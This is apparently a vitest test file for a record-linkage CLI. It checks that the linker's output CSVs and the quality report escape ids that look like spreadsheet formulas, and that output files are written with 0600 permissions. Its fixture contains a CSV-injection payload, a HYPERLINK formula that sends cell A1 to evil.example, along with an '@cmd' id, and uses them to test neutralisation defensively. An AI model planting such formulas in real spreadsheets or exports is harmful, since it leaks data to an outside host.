import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { EXIT, exitStatusOf } from '../../cli/exit-status.js';
import { cliMessage } from '../../cli/hints.js';
import { openCsv } from '../../src/io/csv.js';
import { linkFiles } from '../../src/link/link-files.js';
import { parseBlockingSpec } from '../../src/link/blocking/config.js';
import { runQualityReport } from '../../src/report/index.js';
import { readLinksDir } from '../../src/report/links-file.js';
import { readLinksFile } from '../../src/format/links.js';
import { writeEncoded, prng, randomClk, noisy } from '../fixtures/link/make-encoded.js';
import { collectBatches } from '../helpers/batches.js';
import { p20Rejection } from '../helpers/errors.js';
import { fileTempDir } from '../helpers/tmp.js';

const dir = fileTempDir('p20-report-out-');
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
const out = join(dir, 'results');
const truth = join(dir, 'truth.csv');
let aFile: string;

/** k12 and wages share 8 people; one k12 id is a spreadsheet formula, one wages id starts with "@". */
beforeAll(async () => {
  const rnd = prng(3);
  const people = Array.from({ length: 10 }, () => randomClk(rnd));
  const aId = (i: number) => (i === 0 ? EVIL : `a${i}`);
  const bId = (i: number) => (i === 1 ? '@cmd' : `b${i}`);
  aFile = await writeEncoded(join(dir, 'a.enc'), { party: 'k12', rows: people.slice(0, 9).map((c, i) => ({ id: aId(i), clk: noisy(rnd, c) })) });
  const b = await writeEncoded(join(dir, 'b.enc'), { party: 'wages', rows: people.slice(1).map((c, k) => ({ id: bId(k + 1), clk: noisy(rnd, c) })) });
  await linkFiles({ inputs: [{ file: aFile }, { file: b }], outDir: out, threshold: 0.8, blocking: parseBlockingSpec('none') });
  // truth: person 9 in wages is wrongly said to be k12's a0, so the wrong-pairs file lists the formula id
  const t = ['entity_id,party,record_id', 'P9,k12,"=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"', 'P9,wages,b9'];
  for (let i = 1; i < 9; i++) t.push(`P${i},k12,a${i}`, `P${i},wages,${bId(i)}`);
  writeFileSync(truth, t.join('\n') + '\n');
});

const mode = (p: string): number => statSync(p).mode & 0o777;

describe('linker and report outputs', () => {
  it('ids that look like spreadsheet formulas are written neutralised, and read back unchanged', async () => {
    const text = readFileSync(join(out, 'k12.links.csv'), 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",`);
    expect(text.split('\n').some((l) => /^[=+\-@]/.test(l))).toBe(false);
    expect(readFileSync(join(out, 'wages.links.csv'), 'utf8')).toMatch(/^'@cmd,/m);
    const k = await readLinksFile(join(out, 'k12.links.csv'));
    expect(k.records.has(EVIL)).toBe(true);
    const w = await readLinksFile(join(out, 'wages.links.csv'));
    expect(w.records.has('@cmd')).toBe(true);
  });

  it('the HTML report and the wrong-pairs CSV are 0600; the wrong-pairs CSV neutralises formulas', async () => {
    const html = join(dir, 'quality.html');
    const wrong = join(dir, 'wrong.csv');
    const { result } = await runQualityReport({ linksDir: out, truthFile: truth, html, wrongPairs: wrong });
    expect(result.wrong.some((x) => x.a.id === EVIL || x.b.id === EVIL)).toBe(true);
    expect(mode(html)).toBe(0o600);
    expect(mode(wrong)).toBe(0o600);
    const lines = readFileSync(wrong, 'utf8').split('\n');
    expect(lines.some((l) => l.includes("'=HYPERLINK"))).toBe(true);
    const cells = (await collectBatches((await openCsv(wrong, { formulaPrefix: false })).batches)).flatMap((r) => r.fields);
    for (const c of cells) expect(c).not.toMatch(/^[=+@\t\r]|^-[^\d.]/);
  });

  it('encoded inputs are 0600 too', () => {
    expect(mode(aFile)).toBe(0o600);
  });

  it('report quality --links naming a links file gets a clear message, not ENOTDIR', async () => {
    const e = await p20Rejection(readLinksDir(join(out, 'k12.links.csv')));
    expect(e.code).toBe('REPORT_LINKS');
    expect(exitStatusOf(e)).toBe(EXIT.badInput);
    expect(cliMessage(e)).toMatch(/k12\.links\.csv: --links wants the linker's output directory .*this is a single file/);
    expect(e.message).not.toMatch(/ENOTDIR/);
  });
});
